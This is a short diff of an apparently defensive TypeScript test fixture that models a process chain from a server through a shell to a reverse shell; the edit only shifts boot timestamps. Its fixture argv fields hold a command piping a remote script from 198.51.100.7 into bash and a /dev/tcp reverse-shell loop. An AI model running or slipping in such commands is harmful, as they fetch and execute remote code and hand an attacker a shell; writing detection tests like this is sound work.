@@ -27,21 +27,21 @@ const SERVER: TestProcess = {
 };
 const SHELL: TestProcess = {
   pid: 5120,
-  bootS: 3400,
+  bootS: 5396,
   parent: SERVER,
   image: "/usr/bin/dash",
   argv: ["sh", "-c", "curl -fsSL http://198.51.100.7/s | bash"],
 };
 const REVERSE: TestProcess = {
   pid: 5123,
-  bootS: 3401.2,
+  bootS: 5397.2,
   parent: SHELL,
   image: "/usr/bin/bash",
   argv: ["bash", "-c", "exec 3<>/dev/tcp/198.51.100.7/4444; while read -u 3 l; do $l >&3; done"],
 };
 const ID: TestProcess = {
   pid: 5130,
-  bootS: 3402,
+  bootS: 5398,
   parent: REVERSE,
   image: "/usr/bin/id",
   argv: ["id", "-u"],
